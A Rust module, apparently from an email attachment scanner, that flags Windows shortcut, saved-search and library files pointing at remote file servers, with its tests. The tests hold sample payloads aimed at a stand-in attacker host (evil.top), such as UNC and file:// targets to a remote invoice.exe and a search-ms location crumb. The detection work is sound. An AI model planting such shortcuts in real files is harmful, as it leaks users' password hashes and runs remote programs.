//! Files that a program of Windows follows when a reader opens them, or only their folder: shortcuts (`.url`,
//! `.website`), saved searches and libraries (`.search-ms`, `.library-ms`). Where they reach a file server, it is sent a
//! password hash, or its program is run. Their web addresses are read as those of text.

use super::OpenReading;
use crate::budget::Budget;
use crate::cost::Stage;
use crate::finding::{Candidate, Findings, finding_of};
use crate::judging::Judge;
use crate::outcome::Place;
use uts58::{Target, reference};

/// Extensions of such files, up to a hyphen.
const EXTENSIONS: [&str; 5] = ["url", "website", "search", "library", "searchconnector"];

impl OpenReading<'_> {
    /// Reports what such a file reaches, in its first reading.
    pub(super) fn shortcut(
        &self,
        judge: &mut Judge<'_>,
        budget: &mut Budget<'_>,
        found: &mut Findings,
    ) {
        if self.index > 0 || !self.entry.has_extension(&EXTENSIONS) {
            return;
        }
        let text = self.reading.text.as_str();
        if !budget.spend(Stage::Reading, text.len() as u64) {
            return;
        }
        for value in values(text).filter(|value| may_reach(value)) {
            let mut targets = reference::parse(value, 0..value.len());
            let judged = match targets.next() {
                Some(Target::Dangerous { host, .. }) => judge.followed(value, host),
                _ => None,
            };
            if let Some(judged) = judged
                && found.candidates.len() < budget.findings
            {
                let place =
                    Place::Attribute { element: "shortcut".into(), attribute: "url".into() };
                let span = self.entry.raw_range().unwrap_or_default();
                let finding = finding_of(&judged, &self.entry.path, place, span, value);
                found.push(self.context.policy, Candidate::report_only(finding));
            }
            if !budget.spend_link(value.len(), judge.take_steps()) {
                return;
            }
        }
    }
}

/// The values of a file of settings or of XML.
fn values(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\r', '\n', '=', '"', '\'', '<', '>']).map(str::trim)
}

/// Whether a value may be a path of a server or a URL.
fn may_reach(value: &str) -> bool {
    value.starts_with("\\\\") || value.contains(':')
}

#[cfg(test)]
mod tests {
    use crate::outcome::{Reason, Verdict};
    use crate::{Answers, Facts, Message, Policy, TldTable};

    fn worst(name: &str, file: &str) -> Option<Verdict> {
        let head = format!(
            "Content-Type: application/octet-stream; name={name}\r\nContent-Disposition: attachment\r\n"
        );
        let message = Message { head: head.as_bytes(), body: file.as_bytes() };
        let facts =
            Facts { recipient_domains: vec!["harbour.example".to_owned()], ..Facts::default() };
        let tlds = TldTable::new(["com", "top", "example"], "");
        let outcome =
            crate::inspect(message, &facts, &Policy::default(), &tlds).resolve(&Answers::new());
        let dangerous = |one: &&crate::Finding| one.reasons.contains(Reason::DangerousScheme);
        outcome.findings.iter().filter(dangerous).map(|one| one.verdict).max()
    }

    #[test]
    fn shortcuts_to_file_servers_are_reported() {
        for target in [
            "URL=file://evil.top/share/invoice.exe",
            "URL=\\\\evil.top@80\\share\\invoice.exe",
            "BASEURL=https://fine.com/\r\nIconFile=\\\\evil.top\\x.ico",
            "WorkingDirectory=\\\\evil.top\\x\r\nURL=C:\\x",
            &format!("{}URL=file://evil.top/x", "Key=a:b\r\n".repeat(20_000)),
            "url = search-ms:query=x&crumb=location:\\\\evil.top\\x",
        ] {
            let file = format!("[InternetShortcut]\r\n{target}\r\n");
            assert_eq!(worst("invoice.URL", &file), Some(Verdict::Unsafe), "{target}");
        }
        let library = "<?xml version=\"1.0\"?><libraryDescription><searchConnectorDescription>\
                       <simpleLocation><url>\\\\evil.top\\share</url></simpleLocation>";
        assert_eq!(worst("x.library-ms", library), Some(Verdict::Unsafe));
        let search = "<persistedQuery><scope><include path=\"\\\\evil.top\\share\"/></scope>";
        assert_eq!(worst("x.search-ms", search), Some(Verdict::Unsafe));
        for fine in [
            "URL=https://fine.com/a?b=c\r\nIconFile=C:\\Windows\\system32\\SHELL32.dll\r\nIconIndex=1",
            "URL=file:///C:/a/b.pdf",
            "URL=file://fs01/plans/b.pdf",
            "URL=\\\\files.harbour.example\\plans",
            "IconFile=\\\\192.168.0.10\\x.ico",
        ] {
            let file = format!("[InternetShortcut]\r\n{fine}\r\n");
            assert!(worst("x.url", &file) <= Some(Verdict::Notice), "{fine}");
        }
    }
}
